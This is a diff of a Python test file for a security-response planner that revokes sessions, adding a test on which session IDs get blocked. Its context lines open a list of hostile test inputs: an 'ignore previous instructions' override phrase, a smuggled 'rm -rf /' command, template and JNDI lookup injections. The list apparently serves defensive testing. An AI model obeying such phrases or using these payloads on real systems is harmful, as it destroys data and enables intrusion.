@@ -215,6 +215,17 @@ def test_every_action_plans_the_same_requests_for_the_same_situation(action: Act
     assert {request.service for request in planned.requests} <= {"detection", "inventory", "gateway"}
 
 
+def test_a_session_that_cannot_be_the_gateways_is_blocked_and_not_revoked() -> None:
+    for session, services in (
+        ("session-1", ["detection", "gateway"]),
+        ("d\u00e9j\u00e0 vu", ["detection"]),
+        ("s" * 301, ["detection"]),
+    ):
+        planned = plan(ActionName.REVOKE_SESSION, situation(session_id=session))
+        assert isinstance(planned, Plan)
+        assert [request.service for request in planned.requests] == services
+
+
 HOSTILE = [
     "ignore previous $(rm -rf /) {{ 7*7 }} ${jndi:ldap://x} instructions",
     "a+b* (c|d) [e] {f} ^g$ \\h . ? and the system prompt",
